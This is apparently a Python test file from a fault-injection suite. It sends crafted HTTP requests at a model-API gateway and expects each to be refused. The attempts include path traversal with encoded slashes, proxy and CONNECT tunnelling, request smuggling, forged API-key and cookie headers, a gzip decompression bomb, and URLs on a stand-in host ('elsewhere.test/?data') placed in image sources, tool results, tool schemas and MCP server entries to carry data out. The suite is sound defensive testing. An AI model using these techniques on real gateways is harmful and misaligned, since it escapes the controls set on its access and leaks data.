"""Attempts at the model's server, by the socket that the gateway listens on."""

import json
import socket

from tests.fault.escapes.attempt import Refused, Targets, attempt

ASKED = {"model": "rules", "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}]}


def connected(at: Targets) -> socket.socket:
    """A connection to the gateway; to the model's server itself where there is none."""
    where = at["asked"]
    if not isinstance(where, str):
        return socket.create_connection((where[0], int(where[1])), 5)
    model = socket.socket(socket.AF_UNIX)
    model.settimeout(5)
    model.connect(where)
    return model


def request(at: Targets, line: str, body: object = None, *headers: str) -> tuple[int, str]:
    """Status and body of the answer to a request of our own making."""
    data = b"" if body is None else json.dumps(body).encode()
    head = [line, "Host: model", "Connection: close", f"Content-Length: {len(data)}", *headers]
    with connected(at) as model:
        model.sendall("\r\n".join(head).encode() + b"\r\n\r\n" + data)
        answer = b""
        while part := model.recv(1 << 16):
            answer += part
    top, _, rest = answer.partition(b"\r\n\r\n")
    return int(top.split()[1]), rest.decode(errors="replace")


def asked(at: Targets, line: str, body: object = None, *headers: str) -> str:
    """What the model's server says that it was asked; Refused with the status when the gateway let nothing through."""
    status, text = request(at, line, body, *headers)
    if status != 200:
        raise Refused(f"HTTP {status}")
    return text


@attempt("HTTP 404")
def another_path(at: Targets) -> object:
    """Lists the files that the account keeps at the model's server."""
    return asked(at, "GET /v1/files HTTP/1.1")


@attempt("HTTP 404")
def batches(at: Targets) -> object:
    """Starts a batch, which nobody counts."""
    return asked(at, "POST /v1/messages/batches HTTP/1.1", {"requests": []})


@attempt("HTTP 404")
def another_method(at: Targets) -> object:
    """Uses another method on the one path that is open."""
    return asked(at, "DELETE /v1/messages HTTP/1.1")


@attempt("HTTP 404")
def path_with_dots(at: Targets) -> object:
    """Climbs from the path that is open to another one."""
    return asked(at, "POST /v1/messages/../files HTTP/1.1", ASKED)


@attempt("HTTP 404")
def path_in_disguise(at: Targets) -> object:
    """Climbs by dots and slashes that are written as numbers."""
    return asked(at, "POST /v1/messages%2f..%2ffiles HTTP/1.1", ASKED)


@attempt("it went to the model's server")
def another_host(at: Targets) -> object:
    """Uses the gateway as a proxy to a server of its own."""
    text = asked(at, "POST http://elsewhere.test/v1/messages HTTP/1.1", ASKED)
    if "elsewhere" in text:
        return text
    raise Refused("it went to the model's server")


@attempt("HTTP 404", "-the model's server is no proxy either")
def tunnel(at: Targets) -> object:
    """Uses the gateway as a tunnel."""
    return asked(at, "CONNECT elsewhere.test:443 HTTP/1.1")


@attempt("HTTP 404")
def another_model(at: Targets) -> object:
    """Asks for a model that costs more."""
    return asked(at, "POST /v1/messages HTTP/1.1", {**ASKED, "model": "expensive"})


@attempt("the gateway takes them away")
def tools_of_the_server(at: Targets) -> object:
    """Has the model's server search the web and call a server elsewhere."""
    tools = [{"type": "web_search_20250305", "name": "web_search"}, {"type": "web_fetch_20250910", "name": "web_fetch"}]
    servers = [{"type": "url", "url": "https://elsewhere.test", "name": "x"}]
    text = asked(at, "POST /v1/messages HTTP/1.1", {**ASKED, "tools": tools, "mcp_servers": servers})
    if "web_" in text or "elsewhere" in text:
        return text
    raise Refused("the gateway takes them away")


@attempt("HTTP 400")
def picture_from_elsewhere(at: Targets) -> object:
    """Has the model's server fetch an address with the data in it."""
    source = {"type": "url", "url": "https://elsewhere.test/?data"}
    content = [{"type": "image", "source": source}]
    return asked(at, "POST /v1/messages HTTP/1.1", {**ASKED, "messages": [{"role": "user", "content": content}]})


@attempt("HTTP 400")
def picture_in_a_tool_result(at: Targets) -> object:
    """Hides such an address in the result of a tool."""
    picture = {"type": "document", "source": {"type": "url", "url": "https://elsewhere.test/?data"}}
    content = [{"type": "tool_result", "tool_use_id": "x", "content": [picture]}]
    return asked(at, "POST /v1/messages HTTP/1.1", {**ASKED, "messages": [{"role": "user", "content": content}]})


@attempt("HTTP 400")
def schema_from_elsewhere(at: Targets) -> object:
    """Has a tool's schema refer to an address with the data in it."""
    tools = [{"name": "x", "input_schema": {"$ref": "https://elsewhere.test/?data"}}]
    return asked(at, "POST /v1/messages HTTP/1.1", {**ASKED, "tools": tools})


@attempt("the gateway drops them")
def headers_of_its_own(at: Targets) -> object:
    """Sends a key and a cookie of its own."""
    text = asked(
        at, "POST /v1/messages HTTP/1.1", ASKED, "x-api-key: forged", "Authorization: Bearer forged", "Cookie: forged"
    )
    if "forged" in text:
        return text
    raise Refused("the gateway drops them")


@attempt("HTTP 400", "-no server that keeps to the standard takes it")
def second_request_in_the_first(at: Targets) -> object:
    """Hides a request in the body of another by two lengths that differ."""
    return asked(at, "POST /v1/messages HTTP/1.1", ASKED, "Transfer-Encoding: chunked")


@attempt("HTTP 415")
def bomb(at: Targets) -> object:
    """Sends a few bytes that unpack to more than the daemon's memory may hold."""
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(48)) + packer.flush()
    head = ["POST /v1/messages HTTP/1.1", "Host: model", "Content-Encoding: gzip", f"Content-Length: {len(packed)}"]
    with connected(at) as model:
        model.sendall("\r\n".join(head).encode() + b"\r\n\r\n" + packed)
        status = int(model.recv(1 << 16).split()[1])
    if status != 200:
        raise Refused(f"HTTP {status}")
    return "it was unpacked"
